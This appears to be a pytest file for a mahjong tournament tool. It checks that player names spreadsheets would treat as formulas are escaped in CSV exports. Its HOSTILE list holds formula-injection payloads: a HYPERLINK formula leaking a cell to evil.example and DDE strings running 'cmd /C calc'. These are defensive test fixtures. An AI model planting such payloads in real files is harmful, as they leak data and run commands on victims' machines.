"""Finding 3: a player's name that a spreadsheet would run as a formula comes out of the
EMA results file (``mjref export ema`` and the web's export) behind a single quote, while
mjref's own numbers (place, table points, score, negative ones too) stay plain numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from mjref.csvcells import DANGEROUS
from mjref.services import tournament as ts
from mjref.tournament.roster import format_players_csv, parse_players_csv
from tests.cli.test_tournament_mcr_e2e import Cli
from tests.databases import (  # noqa: F401  (fixtures)
    empty_database,
    fresh_pg_database,
    pg_database,
)
from tests.web.conftest import (  # noqa: F401  (site: a fixture)
    NOW,
    Site,
    _pg_site_template,
    post,
    site,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
"""One hostile last name for each leading character a person can type (mjref refuses a
tab or a carriage return in a name, so those two cannot reach a file)."""


def _players_file(path: Path) -> Path:
    rows = ["first_name,last_name,country"]
    for n, last in enumerate(HOSTILE, start=1):
        quoted = '"' + last.replace('"', '""') + '"'
        rows.append(f"{'=1+1' if n == 1 else f'F{n}'},{quoted},HU")
    rows += [f"F{n},L{n},FR" for n in range(len(HOSTILE) + 1, 9)]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def _check(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 9
    for row in rows[1:]:
        place, last, first, _ema, country, *numbers = row
        assert not any(cell.startswith(DANGEROUS) for cell in (last, first, country))
        assert place.isdigit()
        for number in numbers:
            float(number)  # a plain number, never quoted
    lasts = {row[1] for row in rows[1:]}
    assert {"'" + last for last in HOSTILE} <= lasts
    assert "'=1+1" in {row[2] for row in rows[1:]}


def test_the_ema_file_of_the_command_line_neutralises_hostile_names(tmp_path: Path) -> None:
    mj = Cli(f"sqlite:///{tmp_path}/t.db", "cup")
    mj("tournament", "new", "cup", "--name", "Cup", "-r", "mers-2010", "--sessions", "1")
    mj("players", "import", str(_players_file(tmp_path / "p.csv")), "--check-in")
    mj("seating", "publish", "--seed", "1")
    mj.totals(1, 1, 30, -6, -10, -14)
    text = mj("export", "ema").stdout
    _check(text)
    scores = {row[-1] for row in csv.reader(io.StringIO(text))}
    assert {"-6", "-10", "-14", "30"} <= scores  # negative scores stay numbers
    out = tmp_path / "ema.csv"
    mj("export", "ema", "-o", str(out))
    assert out.read_text(encoding="utf-8") == text
    assert mj.json("export", "ema")["csv"] == text  # type: ignore[index]


def test_the_web_export_neutralises_hostile_names(site: Site) -> None:  # noqa: F811
    organiser = site.login("org")
    organiser.get("/t/cup/admin/players")
    text = "first_name,last_name,country\n" + "".join(
        f'F{n},"{last.replace(chr(34), chr(34) * 2)}",HU\n' for n, last in enumerate(HOSTILE)
    )
    imported = post(organiser, "/t/cup/admin/players/import", text=text, check_in="true")
    assert imported.status_code == 200, imported.text
    ema = organiser.get("/t/cup/admin/export/ema")
    assert ema.status_code == 200
    rows = list(csv.reader(io.StringIO(ema.text)))
    lasts = [row[1] for row in rows[1:]]
    assert {"'" + last for last in HOSTILE} <= set(lasts)
    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row[1:5])
    assert all(row[0].isdigit() for row in rows[1:])


@pytest.mark.parametrize("last", HOSTILE)
def test_a_hostile_name_added_alone_is_neutralised_too(site: Site, last: str) -> None:  # noqa: F811
    ts.add_player(site.log, "cup", ts.player_details("X", last, "HU"), actor="t", now=NOW)
    client: TestClient = site.login("org")  # the exports are the organiser's only
    rows = list(csv.reader(io.StringIO(client.get("/t/cup/admin/export/ema").text)))
    assert ["'" + last, "X"] in [row[1:3] for row in rows]


def test_the_players_file_mjref_writes_is_neutralised() -> None:
    details = [ts.player_details("F", last, "HU") for last in HOSTILE]
    text = format_players_csv(details)
    parsed = parse_players_csv(text)
    assert [d.last_name for _, d in parsed.players] == ["'" + last for last in HOSTILE]
